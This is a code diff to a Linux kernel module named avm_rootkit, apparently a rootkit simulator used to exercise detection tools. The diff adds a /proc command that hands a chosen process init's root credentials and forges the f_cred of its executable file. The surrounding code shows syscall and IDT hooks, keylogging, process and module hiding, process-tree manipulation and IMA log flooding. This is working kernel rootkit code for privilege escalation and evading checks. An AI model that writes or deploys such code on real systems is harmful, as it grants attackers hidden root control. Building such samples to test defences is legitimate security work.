@@ -14,6 +14,7 @@
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'adopt_pid 123' > /proc/avm_rootkit (adopt_pid 0: restore)
+ *   echo 'adopt_exe_pid 123' > /proc/avm_rootkit (adopt_exe_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
  *   echo 'untree_pid 123' > /proc/avm_rootkit    (untree_pid 0: relink)
  *   echo 'ima_flood 60000' > /proc/avm_rootkit   (entries stay: no "off")
@@ -47,7 +48,9 @@
  * the exec of a set-uid root program makes),
  * adopt_pid (a task given a whole new root cred, a copy of init's: ids 0
  * and root's account, what prepare_kernel_cred-style rootkits hand out;
- * its old cred kept to put back),
+ * its old cred kept to put back), adopt_exe_pid (the same, and its
+ * executable's struct file made to look opened with that cred: f_cred,
+ * what the exec's caller's credentials are read from),
  * reparent_pid (a task's real_parent pointed at init, the task left on its
  * parent's children list: what hides a root process under a user's from a
  * check of real_parent), untree_pid (a task taken off its parent's children
@@ -781,11 +784,22 @@ static int root_task(pid_t nr, bool euid_only)
 
 static struct task_struct *adopted_task;
 static const struct cred *adopted_cred, *adopted_real_cred, *adopting_cred;
+/* adopt_exe_pid: the executable's file (held) and its f_cred before */
+static struct file *adopted_exe;
+static const struct cred *adopted_exe_cred;
 
 static void unadopt(void)
 {
 	struct task_struct *t = adopted_task;
 
+	if (adopted_exe) {
+		const struct cred *now = adopted_exe->f_cred;
+
+		*(const struct cred **)&adopted_exe->f_cred = adopted_exe_cred;
+		put_cred(now);
+		fput(adopted_exe);
+		adopted_exe = NULL;
+	}
 	if (!t)
 		return;
 	task_lock(t);
@@ -806,7 +820,7 @@ static void unadopt(void)
 	adopted_task = NULL;
 }
 
-static int adopt_task(pid_t nr)
+static int adopt_task(pid_t nr, bool exe)
 {
 	struct task_struct *t;
 	struct cred *new;
@@ -831,6 +845,16 @@ static int adopt_task(pid_t nr)
 	get_cred(new);
 	rcu_assign_pointer(t->real_cred, new);
 	rcu_assign_pointer(t->cred, new);
+	if (exe && t->mm) {
+		/* the exec's caller's credentials, as the file keeps them */
+		struct file *f = rcu_dereference_protected(t->mm->exe_file, 1);
+
+		if (f) {
+			adopted_exe = get_file(f);
+			adopted_exe_cred = f->f_cred;
+			*(const struct cred **)&f->f_cred = get_cred(new);
+		}
+	}
 	task_unlock(t);
 	adopted_task = t;
 	return 0;
@@ -1117,7 +1141,7 @@ static int rk_show(char *buf, size_t size)
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
-			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nvanish_va_pid %d\nroot_pid %d\neuid_pid %d\nadopt_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nvanish_va_pid %d\nroot_pid %d\neuid_pid %d\nadopt_pid %d\nadopt_exe_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\nima_flooded %ld\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
@@ -1132,7 +1156,8 @@ static int rk_show(char *buf, size_t size)
 			 vanished_task && vanished_cg && !vanished_va ? vanished_task->pid : 0,
 			 vanished_task && vanished_va ? vanished_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
-			 adopted_task ? adopted_task->pid : 0,
+			 adopted_task && !adopted_exe ? adopted_task->pid : 0,
+			 adopted_task && adopted_exe ? adopted_task->pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
 			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
@@ -1208,7 +1233,9 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 	else if (!strcmp(name, "euid_pid"))
 		err = root_task(val, true);
 	else if (!strcmp(name, "adopt_pid"))
-		err = adopt_task(val);
+		err = adopt_task(val, false);
+	else if (!strcmp(name, "adopt_exe_pid"))
+		err = adopt_task(val, true);
 	else if (!strcmp(name, "reparent_pid"))
 		err = reparent_task(val);
 	else if (!strcmp(name, "untree_pid"))
@@ -1299,7 +1326,7 @@ static void __exit rk_exit(void)
 	hide_task(0);
 	hide_thread(0, false);
 	root_task(0, false);
-	adopt_task(0);
+	adopt_task(0, false);
 	reparent_task(0);
 	untree_task(0);
 	mutex_unlock(&rk_lock);
